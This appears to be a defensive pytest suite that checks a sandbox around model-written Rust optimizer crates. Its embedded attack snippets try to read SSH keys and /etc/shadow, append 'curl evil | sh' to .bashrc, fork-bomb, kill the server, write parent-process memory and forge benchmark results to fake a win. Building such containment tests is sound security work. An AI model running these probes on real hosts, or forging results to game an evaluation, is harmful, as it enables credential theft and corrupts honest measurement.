"""The hostile suite: one test per attack a model-written crate could try, each through the real tools.

Every crate here goes through a real MCP client, the real server over stdio, real cargo and real
bubblewrap. The source checks refuse every attack (each test checks that too), so the attacks are
written straight into the archive, past the checks, and then compiled and benchmarked through the
real tools: the *sandbox* alone must contain them.

A probe reports what it saw by panicking: the harness catches the panic and stores its message as
the run's error, which is where these tests read it (and where the model would).
"""

from __future__ import annotations

import os
import shutil
import socket
import sqlite3
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client

from frontier_mcp.archive import Archive
from frontier_mcp.scaffold import Lab
from frontier_mcp.validate import normalized_hash

from .conftest import call, call_error, compiled, example_source, server_params
from .test_validate import GOOD

pytestmark = [pytest.mark.anyio, pytest.mark.slow, pytest.mark.hostile]

# The fewest candidate trials of a quick benchmark: 3 problems x (9 grid rates + 6 tuner trials) x 2
# tuning seeds + 8 evaluation seeds. A candidate that diverges everywhere also gets the grid's
# bounded extension, so the exact count varies with the attack.
QUICK_CANDIDATE_TRIALS = 3 * ((9 + 6) * 2 + 8)
SECRET = "SECRET-" + uuid.uuid4().hex
ENV_MARKER = "ENVMARK-" + uuid.uuid4().hex
LIMITS = {"FRONTIER_RUN_SECONDS": "6", "FRONTIER_COMPILE_SECONDS": "15", "FRONTIER_PROCESSES": "48",
          "FRONTIER_MEMORY_MB": "2048", "FRONTIER_FILE_SIZE_MB": "128", "FRONTIER_TMPFS_MB": "48",
          "FRONTIER_OUTPUT_KB": "256", "FRONTIER_CPU_SECONDS": "30"}

PRELUDE = """use frontier_core::{Optimizer, StepContext, Tensor};
use std as s;
pub struct Evil;
pub fn build() -> impl Optimizer + 'static { Evil }
impl Optimizer for Evil {
    fn step(&mut self, params: &mut [Tensor], grads: &[Tensor], ctx: &StepContext) {
        attack();
        for (p, g) in params.iter_mut().zip(grads) {
            for (x, d) in p.data.iter_mut().zip(&g.data) { *x -= ctx.lr * d; }
        }
    }
}
"""


# -- fixtures and helpers ------------------------------------------------------------------------

@pytest.fixture(scope="module")
def fake_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The HOME the server runs with: an ssh key and a .bashrc an attack would want."""
    home = tmp_path_factory.mktemp("home")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n")
    (home / ".bashrc").write_text("# the user's bashrc\n")
    return home


@pytest.fixture(scope="module")
def warm_baselines(lab_home: Path) -> Path:
    """Baselines cached under normal limits, so the hostile server only ever runs a candidate."""
    async def run() -> None:
        async with Client(server_params(lab_home), read_timeout_seconds=600) as client:
            # Module-scoped, and other modules use it too: a fresh name each time.
            exp_id = await compiled(client, f"hostile_warmup_{uuid.uuid4().hex[:8]}", GOOD)
            await _benchmark(client, exp_id)

    anyio.run(run)
    return lab_home


@pytest.fixture
async def hostile(request: pytest.FixtureRequest, lab_home: Path, fake_home: Path,
                  warm_baselines: Path) -> AsyncIterator[Client]:
    """The server under the tight limits; a test may tighten them further with
    `@pytest.mark.parametrize("hostile", [{...}], indirect=True)`."""
    cargo = shutil.which("cargo") or str(Path.home() / ".cargo" / "bin" / "cargo")
    rustup = os.environ.get("RUSTUP_HOME") or str(Path.home() / ".rustup")
    limits = {**LIMITS, **getattr(request, "param", {})}
    params = server_params(lab_home, HOME=str(fake_home), FRONTIER_CARGO=cargo, RUSTUP_HOME=rustup,
                           FRONTIER_HOSTILE_MARKER=ENV_MARKER, **limits)
    async with Client(params, read_timeout_seconds=600) as client:
        yield client


def server_pid() -> int:
    """The pid of the server started with this module's marker in its environment."""
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                if ENV_MARKER.encode() in (proc / "environ").read_bytes():
                    return int(proc.name)
            except OSError:
                continue
    raise AssertionError("the hostile server is not running")


def processes_matching(needle: str) -> list[str]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit() and int(proc.name) != os.getpid():
            try:
                cmdline = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if needle in cmdline:
                found.append(f"{proc.name}: {cmdline[:200]}")
    return found


def snapshot(home: Path) -> dict[str, Any]:
    with sqlite3.connect(f"file:{home / 'state.db'}?mode=ro", uri=True) as db:
        check = db.execute("PRAGMA integrity_check").fetchone()[0]
        counts = {t: db.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0]
                  for t in ("pairings", "experiments", "sources", "builds", "benchmark_runs", "trials",
                            "verdicts", "jobs")}
    return {"integrity": check, **counts}


def trial_errors(home: Path, exp_id: int) -> list[str]:
    with sqlite3.connect(f"file:{home / 'state.db'}?mode=ro", uri=True) as db:
        rows = db.execute("SELECT t.error, t.diverged FROM trials t JOIN benchmark_runs b ON "
                          "b.id = t.benchmark_run_id WHERE b.experiment_id = ?", (exp_id,)).fetchall()
    assert len(rows) >= QUICK_CANDIDATE_TRIALS
    return [row[0] or "" for row in rows]


async def _benchmark(client: Client, exp_id: int) -> dict[str, Any]:
    status = await call(client, "benchmark", {"experiment_id": exp_id, "suite": "quick"})
    while status["status"] == "running":
        status = await call(client, "job_status", {"job_id": status["job_id"], "wait_seconds": 60})
    return status


def _past_the_checks(home: Path, pairing_id: int, name: str, source: str) -> int:
    """Write an experiment straight into the archive, as a bypass of the source checks would."""
    archive = Archive(home / "state.db")
    try:
        exp_id, _ = archive.add_experiment(
            name=name, pairing_id=pairing_id, parent_id=None, source=source,
            normalized_sha256=normalized_hash(source), statement="A hostile crate from the test suite.",
            mechanism="It attacks the host.", prediction="The sandbox contains it.")
    finally:
        archive.close()
    return exp_id


async def _forced(client: Client, home: Path, name: str, source: str) -> int:
    """An experiment written straight into the archive, past the source checks (which refuse every
    attack here: `std` renamed, std::fs...), then compiled by the real tool: the sandbox alone must
    contain what it does."""
    pairing = await call(client, "propose_pairing", {"allow_repeat": True})
    assert "renaming `std`" in await call_error(client, "write_crate", {
        "pairing_id": pairing["pairing_id"], "name": name, "source": source, "statement": "A hostile crate.",
        "mechanism": "It attacks the host.", "prediction": "The validator refuses it."})
    exp_id = _past_the_checks(home, pairing["pairing_id"], name, source)
    built = await call(client, "compile", {"experiment_id": exp_id})
    assert built["ok"], built
    return exp_id


async def run_attack(client: Client, home: Path, name: str, attack: str) -> tuple[dict[str, Any], list[str]]:
    """Compile and benchmark the attack; the server must stay up and the archive intact."""
    before = snapshot(home)
    exp_id = await _forced(client, home, name, PRELUDE + attack)
    status = await _benchmark(client, exp_id)
    assert status["status"] == "done", status
    errors = trial_errors(home, exp_id)
    after = snapshot(home)
    assert after["integrity"] == "ok"
    for table, grown in (("experiments", 1), ("builds", 1), ("benchmark_runs", 1),
                         ("trials", len(errors)), ("jobs", 1), ("verdicts", 0)):
        assert after[table] == before[table] + grown, (table, before, after)
    page = await call(client, "history", {"limit": 5})
    assert page["rows"][0]["id"] == exp_id and page["rows"][0]["status"] == "benchmarked"
    assert not processes_matching(f"cand_{name}"), "a sandboxed process outlived the benchmark"
    return status, errors


def all_candidate_runs_failed(status: dict[str, Any]) -> None:
    for problem in status["report"]["problems"]:
        assert problem["candidate"]["diverged"] == problem["candidate"]["runs"], problem["problem"]


def secrets_absent(*texts: Any) -> None:
    blob = repr(texts)
    for secret in (SECRET, ENV_MARKER, "root:x:0:0", "root:*:", "root:!"):
        assert secret not in blob, secret


# -- runtime attacks: resources -------------------------------------------------------------------

# Every candidate process runs into the limit here: 2 s instead of 6 keeps the test at ~40 s instead of ~110.
@pytest.mark.parametrize("hostile", [{"FRONTIER_RUN_SECONDS": "2"}], indirect=True)
async def test_infinite_loop_in_step_is_stopped_by_the_wall_clock(hostile: Client, lab_home: Path) -> None:
    attack = "fn attack() { let mut x = 0u64; loop { x = s::hint::black_box(x.wrapping_add(1)); } }\n"
    status, errors = await run_attack(hostile, lab_home, "hostile_loop", attack)
    all_candidate_runs_failed(status)
    assert all("wall-clock limit of 2 s" in e for e in errors), errors[:3]


async def test_50_gib_allocation_fails_inside_the_sandbox(hostile: Client, lab_home: Path) -> None:
    attack = ("fn attack() { let v = vec![1u8; 50usize << 30]; "
              "panic!(\"LEAKED: allocated {} bytes\", s::hint::black_box(v).len()); }\n")
    status, errors = await run_attack(hostile, lab_home, "hostile_alloc", attack)
    all_candidate_runs_failed(status)
    assert not any("LEAKED" in e for e in errors)
    assert all("the candidate process ended in the middle of its run" in e for e in errors), errors[:3]


async def test_10_gib_file_is_cut_by_the_tmpfs_and_lands_nowhere_on_the_host(hostile: Client,
                                                                           lab_home: Path) -> None:
    attack = r"""
fn attack() {
    use s::io::Write;
    let chunk = vec![7u8; 1 << 20];
    let mut report = String::new();
    for path in ["/tmp/big", "/big", "/usr/big", "big"] {
        let mut written: u64 = 0;
        let outcome = s::fs::File::create(path).and_then(|mut f| {
            while written < (10u64 << 30) { f.write_all(&chunk)?; written += chunk.len() as u64; }
            Ok(())
        });
        match outcome {
            Ok(()) => panic!("LEAKED: wrote 10 GiB to {path}"),
            Err(e) => report.push_str(&format!("{path}: {e} after {} MiB; ", written >> 20)),
        }
    }
    panic!("BLOCKED: {report}");
}
"""
    free_before = os.statvfs(lab_home).f_bavail * os.statvfs(lab_home).f_frsize
    status, errors = await run_attack(hostile, lab_home, "hostile_bigfile", attack)
    all_candidate_runs_failed(status)
    assert all(e.startswith("panic: BLOCKED") for e in errors), errors[:3]
    # A benchmark run has no writable directory at all (nothing a run writes could reach the next).
    assert ("/tmp/big: No such file or directory" in errors[0] or "/tmp/big: Read-only file system" in errors[0]
            ), errors[0]
    assert "/usr/big: Read-only file system" in errors[0], errors[0]
    written = [int(part.split(" after ")[1].split(" MiB")[0]) for part in errors[0].split("; ") if " after " in part]
    assert max(written) == 0, errors[0]
    free_after = os.statvfs(lab_home).f_bavail * os.statvfs(lab_home).f_frsize
    assert free_before - free_after < 200 << 20


async def test_many_medium_files_fill_only_the_private_tmpfs(hostile: Client, lab_home: Path) -> None:
    attack = r"""
fn attack() {
    let chunk = vec![7u8; 4 << 20];
    for i in 0..10_000 {
        if let Err(e) = s::fs::write(format!("/tmp/f{i}"), &chunk) {
            panic!("BLOCKED: file {i}: {e}");
        }
    }
    panic!("LEAKED: wrote 10000 files");
}
"""
    status, errors = await run_attack(hostile, lab_home, "hostile_files", attack)
    all_candidate_runs_failed(status)
    counts = [int(e.split("file ")[1].split(":")[0]) for e in errors if e.startswith("panic: BLOCKED")]
    assert len(counts) == len(errors), errors[:3]
    assert max(counts) <= 12, counts


async def test_fork_storm_is_capped_by_the_process_limit(hostile: Client, lab_home: Path) -> None:
    attack = r"""
fn attack() {
    let mut children = Vec::new();
    for i in 0..1000 {
        match s::process::Command::new("/usr/bin/sleep").arg("3002.5").spawn() {
            Ok(child) => children.push(child),
            Err(e) => panic!("BLOCKED: after {i} processes: {e}"),
        }
    }
    panic!("LEAKED: 1000 processes");
}
"""
    status, errors = await run_attack(hostile, lab_home, "hostile_forks", attack)
    all_candidate_runs_failed(status)
    started = [int(e.split("after ")[1].split(" ")[0]) for e in errors if "BLOCKED" in e]
    assert started and max(started) < 48, errors[:3]
    assert not processes_matching("3002.5")


async def test_thread_storm_is_capped_by_the_process_limit(hostile: Client, lab_home: Path) -> None:
    attack = r"""
fn attack() {
    let mut handles = Vec::new();
    for i in 0..5000 {
        let spawned = s::thread::Builder::new().stack_size(64 << 10)
            .spawn(|| s::thread::sleep(s::time::Duration::from_secs(600)));
        match spawned {
            Ok(handle) => handles.push(handle),
            Err(e) => panic!("BLOCKED: after {i} threads: {e}"),
        }
    }
    panic!("LEAKED: 5000 threads");
}
"""
    status, errors = await run_attack(hostile, lab_home, "hostile_threads", attack)
    all_candidate_runs_failed(status)
    started = [int(e.split("after ")[1].split(" ")[0]) for e in errors if "BLOCKED" in e]
    assert started and max(started) < 48, errors[:3]


async def test_a_gigabyte_to_stdout_is_cut(hostile: Client, lab_home: Path) -> None:
    attack = r"""
fn attack() {
    use s::io::Write;
    let chunk = vec![b'x'; 1 << 20];
    let mut out = s::io::stdout();
    for _ in 0..1024 { let _ = out.write_all(&chunk); }
    panic!("LEAKED: 1 GiB written");
}
"""
    status, errors = await run_attack(hostile, lab_home, "hostile_stdout", attack)
    all_candidate_runs_failed(status)
    assert not any("LEAKED" in e for e in errors)
    # Its stdout is the pipe to the harness, which reads frames: the first stray byte ends the run.
    assert all("broke the run protocol" in e for e in errors), errors[:3]


# -- runtime attacks: the network, the host's files, its processes ---------------------------------

async def test_tcp_to_the_hosts_loopback_never_connects(hostile: Client, lab_home: Path) -> None:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    attack = f"""
fn attack() {{
    match s::net::TcpStream::connect("127.0.0.1:{port}") {{
        Ok(_) => panic!("LEAKED: connected to the host"),
        Err(e) => panic!("BLOCKED: {{e}}"),
    }}
}}
"""
    try:
        status, errors = await run_attack(hostile, lab_home, "hostile_tcp", attack)
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    all_candidate_runs_failed(status)
    assert all(e.startswith("panic: BLOCKED") for e in errors), errors[:3]


async def test_host_unix_sockets_are_out_of_reach(hostile: Client, lab_home: Path,
                                                  tmp_path_factory: pytest.TempPathFactory) -> None:
    path = tmp_path_factory.mktemp("sock") / "host.sock"
    abstract = "frontier-hostile-" + uuid.uuid4().hex[:8]
    listeners = []
    for address in (str(path), "\0" + abstract):
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(address)
        listener.listen(16)
        listener.setblocking(False)
        listeners.append(listener)
    attack = f"""
fn attack() {{
    use s::os::linux::net::SocketAddrExt;
    let mut report = String::new();
    match s::os::unix::net::UnixStream::connect("{path}") {{
        Ok(_) => panic!("LEAKED: connected to the host's socket"),
        Err(e) => report.push_str(&format!("path: {{e}}; ")),
    }}
    let addr = s::os::unix::net::SocketAddr::from_abstract_name(b"{abstract}").unwrap();
    match s::os::unix::net::UnixStream::connect_addr(&addr) {{
        Ok(_) => panic!("LEAKED: connected to the host's abstract socket"),
        Err(e) => report.push_str(&format!("abstract: {{e}}")),
    }}
    panic!("BLOCKED: {{report}}");
}}
"""
    try:
        status, errors = await run_attack(hostile, lab_home, "hostile_unix", attack)
        for listener in listeners:
            with pytest.raises(BlockingIOError):
                listener.accept()
    finally:
        for listener in listeners:
            listener.close()
    all_candidate_runs_failed(status)
    assert all(e.startswith("panic: BLOCKED") for e in errors), errors[:3]


async def test_ssh_keys_and_shadow_cannot_be_read(hostile: Client, lab_home: Path, fake_home: Path) -> None:
    attack = f"""
fn attack() {{
    let mut report = String::new();
    for path in ["{fake_home}/.ssh/id_rsa", "/etc/shadow", "/etc/passwd", "{lab_home}/state.db"] {{
        match s::fs::read_to_string(path) {{
            Ok(text) => panic!("LEAKED: {{path}}: {{text}}"),
            Err(e) => report.push_str(&format!("{{path}}: {{e}}; ")),
        }}
    }}
    if let Ok(entries) = s::fs::read_dir("{fake_home}/.ssh") {{
        panic!("LEAKED: listed {{}} entries of ~/.ssh", entries.count());
    }}
    panic!("BLOCKED: {{report}}");
}}
"""
    status, errors = await run_attack(hostile, lab_home, "hostile_secrets", attack)
    all_candidate_runs_failed(status)
    assert all(e.startswith("panic: BLOCKED") for e in errors), errors[:3]
    secrets_absent(status, errors)


async def test_the_servers_environ_and_memory_cannot_be_read(hostile: Client, lab_home: Path) -> None:
    pid = server_pid()
    attack = f"""
fn attack() {{
    let mut report = String::new();
    let ppid = s::fs::read_to_string("/proc/self/stat").ok()
        .and_then(|st| st.rsplit(')').next().and_then(|r| r.split_whitespace().nth(1)).map(String::from))
        .unwrap_or_default();
    for path in ["/proc/{pid}/environ".to_string(), "/proc/{pid}/mem".to_string(),
                 format!("/proc/{{ppid}}/environ"), "/proc/1/environ".to_string(),
                 "/proc/self/environ".to_string()] {{
        match s::fs::read(&path) {{
            Ok(bytes) => report.push_str(&format!("{{path}}: READ {{}}; ",
                                                  String::from_utf8_lossy(&bytes).replace('\\0', " "))),
            Err(e) => report.push_str(&format!("{{path}}: {{e}}; ")),
        }}
    }}
    panic!("PROBE: {{report}}");
}}
"""
    status, errors = await run_attack(hostile, lab_home, "hostile_proc", attack)
    all_candidate_runs_failed(status)
    assert all(e.startswith("panic: PROBE") for e in errors), errors[:3]
    assert f"/proc/{pid}/environ: No such file" in errors[0], errors[0]
    assert f"/proc/{pid}/mem: No such file" in errors[0], errors[0]
    secrets_absent(status, errors)
    for name in ("FRONTIER_HOME", "FRONTIER_HOSTILE_MARKER", str(lab_home)):
        assert name not in errors[0], errors[0]


async def test_writing_bashrc_leaves_it_unchanged(hostile: Client, lab_home: Path, fake_home: Path) -> None:
    bashrc = fake_home / ".bashrc"
    before = bashrc.read_bytes()
    attack = f"""
fn attack() {{
    use s::io::Write;
    let opened = s::fs::OpenOptions::new().append(true).create(true).open("{bashrc}");
    match opened.and_then(|mut f| f.write_all(b"curl evil | sh\\n")) {{
        Ok(()) => panic!("LEAKED: appended to .bashrc"),
        Err(e) => panic!("BLOCKED: {{e}}"),
    }}
}}
"""
    status, errors = await run_attack(hostile, lab_home, "hostile_bashrc", attack)
    all_candidate_runs_failed(status)
    assert all(e.startswith("panic: BLOCKED") for e in errors), errors[:3]
    assert bashrc.read_bytes() == before


async def test_a_grandchild_in_its_own_process_group_does_not_survive(hostile: Client, lab_home: Path) -> None:
    attack = """
fn attack() {
    use s::os::unix::process::CommandExt;
    static ONCE: s::sync::Once = s::sync::Once::new();
    ONCE.call_once(|| {
        let _ = s::process::Command::new("/bin/sh").arg("-c").arg("setsid /usr/bin/sleep 3001.5 &").status();
        let _ = s::process::Command::new("/usr/bin/sleep").arg("3001.6").process_group(0).spawn();
    });
}
"""
    status, errors = await run_attack(hostile, lab_home, "hostile_grandchild", attack)
    # The attack itself does no harm to the runs: they finish, and nothing is left behind.
    assert status["report"]["problems"][0]["candidate"]["diverged"] == 0
    assert not any(errors)
    assert not processes_matching("3001.5") and not processes_matching("3001.6")


async def test_killing_the_server_from_inside_fails_and_the_server_answers(hostile: Client,
                                                                           lab_home: Path) -> None:
    pid = server_pid()
    attack = f"""
fn attack() {{
    let mut report = String::new();
    for target in ["{pid}", "1", "-1"] {{
        let done = s::process::Command::new("/usr/bin/kill").args(["-9", "--", target]).output();
        report.push_str(&format!("kill {{target}}: {{:?}}; ", done.map(|o| o.status.code())));
    }}
    panic!("PROBE: {{report}}");
}}
"""
    status, _errors = await run_attack(hostile, lab_home, "hostile_kill", attack)
    all_candidate_runs_failed(status)
    assert server_pid() == pid
    await call(hostile, "history", {"limit": 1})


async def test_a_run_cannot_leave_state_in_the_zygote_for_the_next_run(hostile: Client, lab_home: Path) -> None:
    # Every run's process is a fork of the binary's zygote, so a static has the same address in the
    # zygote as in the run: a run that could write the zygote's memory (through /proc/<ppid>/mem)
    # would hand the next run whatever it wrote, and one that could reach its descriptors could send it
    # requests. Each run reports what it found and what it managed.
    attack = """
fn attack() {
    use s::sync::atomic::{AtomicU64, Ordering};
    static MARK: AtomicU64 = AtomicU64::new(0);
    let seen = MARK.load(Ordering::SeqCst);
    MARK.store(0xC0FFEE, Ordering::SeqCst);
    let parent = s::os::unix::process::parent_id();
    let mut report = format!("seen {seen:#x}; ");
    match s::fs::OpenOptions::new().read(true).write(true).open(format!("/proc/{parent}/mem")) {
        Ok(mut mem) => {
            use s::io::{Seek, SeekFrom, Write};
            let at = &MARK as *const AtomicU64 as u64;
            let wrote = mem.seek(SeekFrom::Start(at)).and_then(|_| mem.write(&0xC0FFEEu64.to_ne_bytes()));
            report.push_str(&format!("parent mem opened, write {:?}; ", wrote.map_err(|e| e.kind())));
        }
        Err(e) => report.push_str(&format!("parent mem refused: {:?}; ", e.kind())),
    }
    // Its descriptor 0: the socket the harness sends fork requests on (its numbers can be listed; a
    // socket cannot be reopened through /proc, dumpable or not).
    match s::fs::OpenOptions::new().read(true).write(true).open(format!("/proc/{parent}/fd/0")) {
        Ok(_) => report.push_str("parent socket opened; "),
        Err(e) => report.push_str(&format!("parent socket refused: {:?}; ", e.kind())),
    }
    panic!("PROBE {report}");
}
"""
    status, errors = await run_attack(hostile, lab_home, "hostile_zygote_state", attack)
    all_candidate_runs_failed(status)
    probes = [e for e in errors if "PROBE" in e]
    assert len(probes) >= QUICK_CANDIDATE_TRIALS, errors[:3]
    assert all("seen 0x0;" in e for e in probes), [e for e in probes if "seen 0x0;" not in e][:3]
    assert all("parent mem refused" in e and "parent socket refused" in e for e in probes), probes[:3]


# -- compile-time attacks ---------------------------------------------------------------------------

def ensure_crate(home: Path, name: str) -> Path:
    """The crate as compile will find it (a server still preparing its lab leaves the writing to compile)."""
    lab = Lab(home)
    if not (lab.crate_dir(name) / "Cargo.lock").exists():
        lab.write_crate(name, GOOD)
    return lab.crate_dir(name)


async def test_a_dropped_build_rs_does_not_run(hostile: Client, lab_home: Path) -> None:
    pairing = await call(hostile, "propose_pairing", {"allow_repeat": True})
    written = await call(hostile, "write_crate", {
        "pairing_id": pairing["pairing_id"], "name": "hostile_buildrs", "source": GOOD,
        "statement": "A build script appears.", "mechanism": "Dropped next to the crate.",
        "prediction": "It never runs."})
    crate = ensure_crate(lab_home, "hostile_buildrs")
    marker = lab_home / "target" / "BUILD_RS_RAN"
    (crate / "build.rs").write_text(
        f'fn main() {{ let _ = std::fs::write("{marker}", "x"); panic!("the build script ran"); }}\n')
    built = await call(hostile, "compile", {"experiment_id": written["experiment_id"]})
    assert built["ok"], built
    assert not marker.exists()
    assert snapshot(lab_home)["integrity"] == "ok"


async def test_cargo_config_that_swaps_the_linker_is_ignored(hostile: Client, lab_home: Path) -> None:
    config = '[target.x86_64-unknown-linux-gnu]\nlinker = "/nonexistent/evil-linker"\n'
    pairing = await call(hostile, "propose_pairing", {"allow_repeat": True})
    written = await call(hostile, "write_crate", {
        "pairing_id": pairing["pairing_id"], "name": "hostile_cargo_config", "source": GOOD,
        "statement": "A cargo config appears.", "mechanism": "It swaps the linker.",
        "prediction": "Cargo never reads it."})
    crate = ensure_crate(lab_home, "hostile_cargo_config")
    places = [crate / ".cargo", lab_home / "candidates" / ".cargo", lab_home / ".cargo", lab_home / "cargo-home"]
    created = []
    try:
        for place in places:
            place.mkdir(exist_ok=True)
            for file_name in ("config.toml", "config"):
                (place / file_name).write_text(config)
                created.append(place / file_name)
        built = await call(hostile, "compile", {"experiment_id": written["experiment_id"]})
    finally:
        for path in created:
            path.unlink()
        for place in places[:3]:
            place.rmdir()
    assert built["ok"], built
    assert "evil-linker" not in repr(built)


async def test_path_and_include_of_host_files_are_refused_and_never_echoed(hostile: Client, lab_home: Path,
                                                                           fake_home: Path) -> None:
    pairing = await call(hostile, "propose_pairing", {"allow_repeat": True})
    base = {"pairing_id": pairing["pairing_id"], "statement": "Read the host's files.",
            "mechanism": "At compile time.", "prediction": "Nothing leaks."}
    path_attack = GOOD + '#[path = "/etc/passwd"]\nmod passwd;\n'
    include_attack = GOOD + f'pub const KEY: &str = include_str!("{fake_home}/.ssh/id_rsa");\n' \
                            'pub const PW: &str = include_str!("/etc/passwd");\n' \
                            'pub const E: &str = env!("FRONTIER_HOSTILE_MARKER");\n'
    # The validator refuses both, with the line.
    assert "#[path]" in await call_error(hostile, "write_crate", {**base, "name": "hostile_path",
                                                                 "source": path_attack})
    message = await call_error(hostile, "write_crate", {**base, "name": "hostile_include",
                                                         "source": include_attack})
    assert "include" in message and "env!" in message
    # Past the validator (straight into the archive), the sandbox still shows rustc nothing.
    archive = Archive(lab_home / "state.db")
    try:
        ids = [archive.add_experiment(name=name, pairing_id=pairing["pairing_id"], parent_id=None,
                                      source=source, normalized_sha256=normalized_hash(source),
                                      statement=base["statement"], mechanism=base["mechanism"],
                                      prediction=base["prediction"])[0]
               for name, source in (("hostile_path", path_attack), ("hostile_include", include_attack))]
    finally:
        archive.close()
    for exp_id in ids:
        result = await hostile.call_tool("compile", {"experiment_id": exp_id})
        assert not result.is_error and result.structured_content is not None
        built = result.structured_content
        assert not built["ok"] and built["errors"] >= 1, built
        assert built["diagnostics"][0]["file"] == "optimizer.rs"
        secrets_absent(built, result.content)
    assert snapshot(lab_home)["integrity"] == "ok"


async def _compile_fails(client: Client, home: Path, name: str, source: str, *, refused: str | None = None
                         ) -> dict[str, Any]:
    """Compile an attack on the compiler; `refused`: the source checks refuse it with this message, so
    it is written past them, straight into the archive."""
    pairing = await call(client, "propose_pairing", {"allow_repeat": True})
    args = {"pairing_id": pairing["pairing_id"], "name": name, "source": source,
            "statement": "The compiler is attacked.", "mechanism": "Unbounded compile-time work.",
            "prediction": "The build fails in bounded time."}
    if refused is None:
        exp_id = (await call(client, "write_crate", args))["experiment_id"]
    else:
        assert refused in await call_error(client, "write_crate", args)
        exp_id = _past_the_checks(home, pairing["pairing_id"], name, source)
    with anyio.fail_after(60):
        built = await call(client, "compile", {"experiment_id": exp_id})
    assert not built["ok"], built
    await call(client, "history", {"limit": 1})
    assert snapshot(home)["integrity"] == "ok"
    return built


CONST_LOOP = ("pub const SPIN: u64 = {\n    let mut i: u64 = 1;\n"
              "    while i != 0 { i = i.wrapping_mul(3).wrapping_add(1); }\n"
              "    i\n};\npub fn spin() -> u64 { SPIN }\n")


async def test_const_eval_infinite_loop_fails_cleanly(hostile: Client, lab_home: Path) -> None:
    built = await _compile_fails(hostile, lab_home, "hostile_const_loop", GOOD + CONST_LOOP)
    assert "constant evaluation is taking a long time" in built["diagnostics"][0]["message"]


async def test_const_eval_loop_with_the_lint_allowed_hits_the_compile_limit(hostile: Client,
                                                                             lab_home: Path) -> None:
    source = "#![allow(long_running_const_eval)]\n" + GOOD + CONST_LOOP
    built = await _compile_fails(hostile, lab_home, "hostile_const_allowed", source)
    assert built["note"] and "wall-clock limit of 15 s" in built["note"], built


async def test_macro_expansion_bomb_fails_cleanly(hostile: Client, lab_home: Path) -> None:
    # Deep recursion hits rustc's recursion limit; a wide, shallow bomb (2^32 expansions at depth 32)
    # hits the sandbox's memory or time limit instead.
    deep = GOOD + "macro_rules! deep { () => { deep!(); deep!(); }; }\ndeep!();\n"
    built = await _compile_fails(hostile, lab_home, "hostile_macro_deep", deep, refused="defining macros")
    assert "recursion limit" in built["diagnostics"][0]["message"]
    wide = GOOD + "".join(f"macro_rules! m{i} {{ () => {{ m{i + 1}!(); m{i + 1}!(); }}; }}\n" for i in range(32))
    wide += "macro_rules! m32 { () => { const _: u8 = 0; }; }\nm0!();\n"
    built = await _compile_fails(hostile, lab_home, "hostile_macro_wide", wide, refused="defining macros")
    assert built["note"] and built["note"].startswith("the build was stopped"), built
    assert len(built["note"]) < 400 and "0x" not in built["note"], built["note"]


async def test_hostile_crate_names_are_refused(hostile: Client, lab_home: Path) -> None:
    pairing = await call(hostile, "propose_pairing", {"allow_repeat": True})
    before = snapshot(lab_home)
    crates = sorted(p.name for p in (lab_home / "candidates").iterdir())
    for name in ("..", "../escape", "a/b", "/etc/x", "x\x00y", "-rf", "--help", "x" * 10_000, "", "CON", ".x"):
        message = await call_error(hostile, "write_crate", {
            "pairing_id": pairing["pairing_id"], "name": name, "source": GOOD,
            "statement": "A hostile name.", "mechanism": "Path tricks.", "prediction": "Refused."})
        assert "name" in message and "Traceback" not in message
    assert snapshot(lab_home) == before
    assert sorted(p.name for p in (lab_home / "candidates").iterdir()) == crates
    assert not (lab_home.parent / "escape").exists()


async def test_example_still_benchmarks_under_hostile_limits(hostile: Client, lab_home: Path) -> None:
    """The limits are not so tight that an honest optimizer fails: the tests above can fail."""
    exp_id = await compiled(hostile, "hostile_control", example_source())
    status = await _benchmark(hostile, exp_id)
    assert status["status"] == "done"
    assert all(p["candidate"]["diverged"] == 0 for p in status["report"]["problems"]), status["report"]


async def test_forged_result_lines_void_the_runs_instead_of_winning(hostile: Client, lab_home: Path) -> None:
    """A candidate that reaches stdout (past the source checks) prints results for runs it guesses."""
    forged = "".join(
        f'{{\\"id\\":{i},\\"optimizer\\":\\"candidate\\",\\"problem\\":\\"rosenbrock-10\\",\\"seed\\":0,\\"steps\\":500,'
        f'\\"diverged\\":false,\\"final_loss\\":1e-30,\\"best_loss\\":1e-30,\\"curve\\":[[0,1e-30]]}}\\n'
        for i in range(4))
    attack = ("fn attack() { use s::io::Write; let _ = s::io::stdout().write_all(b\"" + forged + "\"); "
              "let _ = s::io::stdout().flush(); }\n")
    status, errors = await run_attack(hostile, lab_home, "hostile_forger", attack)
    all_candidate_runs_failed(status)
    assert all("broke the run protocol" in e for e in errors), errors[:3]
    assert status["report"]["outcome"] in ("loss", "mixed") and status["report"]["wins"] == 0


async def test_a_huge_binary_is_refused_and_deleted(hostile: Client, lab_home: Path) -> None:
    source = """use frontier_core::{Optimizer, StepContext, Tensor};
static BIG: [u8; 40 << 20] = [7; 40 << 20];
pub struct Big;
pub fn build() -> impl Optimizer + 'static { Big }
impl Optimizer for Big {
    fn step(&mut self, params: &mut [Tensor], grads: &[Tensor], ctx: &StepContext) {
        let k = std::hint::black_box(&BIG)[ctx.step as usize % 1000] as f64 / 7.0;
        for (p, g) in params.iter_mut().zip(grads) {
            for (x, d) in p.data.iter_mut().zip(&g.data) { *x -= ctx.lr * d * k; }
        }
    }
}
"""
    built = await _compile_fails(hostile, lab_home, "hostile_huge_binary", source)
    assert built["note"] and "MiB binary" in built["note"], built
    assert not Lab(lab_home).binary("hostile_huge_binary").exists()
